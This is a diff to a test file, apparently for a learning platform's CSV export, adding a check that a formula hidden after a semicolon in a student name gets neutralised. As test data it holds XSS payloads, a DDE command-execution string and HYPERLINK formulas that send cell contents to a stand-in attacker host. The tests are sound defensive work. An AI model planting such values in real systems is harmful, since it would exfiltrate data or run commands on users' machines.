@@ -22,6 +22,9 @@ const SCRIPT = '<script>alert(document.cookie)</script>';
 const IMG = '<img src=x onerror=alert(1)>';
 const JS_LINK = '[Read the guidance](javascript:alert(document.domain))';
 /** Names a student can give themselves in the LMS, each a formula if a spreadsheet runs it. */
+/** A name that is harmless where , separates cells, but not where a spreadsheet splits on ; . */
+const SEMICOLON_NAME = 'Ana;=HYPERLINK("https://attacker.example/?"&A1,"Open")';
+
 const FORMULA_NAMES = [
   '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
   '+SUM(1+1)',
@@ -112,7 +115,7 @@ beforeAll(async () => {
     ...course,
   });
   await playWithAnswer(writer, ANSWER);
-  for (const [i, name] of FORMULA_NAMES.entries()) {
+  for (const [i, name] of [...FORMULA_NAMES, SEMICOLON_NAME].entries()) {
     const user = i === 0 ? '=cmd|"/C calc"!A0' : `student-${i}`;
     const ltik = await ltikFor(upstream.url, platform, { user, name, ...course });
     await api(upstream.url, ltik, 'POST', '/api/player/attempts', {});
@@ -222,6 +225,17 @@ describe('the CSV export', () => {
     for (const name of FORMULA_NAMES) expect(cells).toContain(`'${name}`);
     expect(cells).toContain(`'=cmd|"/C calc"!A0`);
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('neutralises a formula after a ; inside a name, for spreadsheets that split cells on ;', async () => {
+    const res = await fetch(`${upstream.url}/api/dashboard.csv`, {
+      headers: { Authorization: `Bearer ${teacher}` },
+    });
+    const line = (await res.text()).split('\r\n').find((l) => l.includes('Ana;'));
+    expect(line).toContain(`"Ana;'=HYPERLINK(`);
+    // Split the way a ;-locale spreadsheet that ignored the quotes would: no piece starts a formula.
+    const pieces = line!.split(/[;,\t]/).map((piece) => piece.replace(/^"/, ''));
+    expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
   });
 
   it('neutralises case step titles that start with = in the branch statistics', async () => {
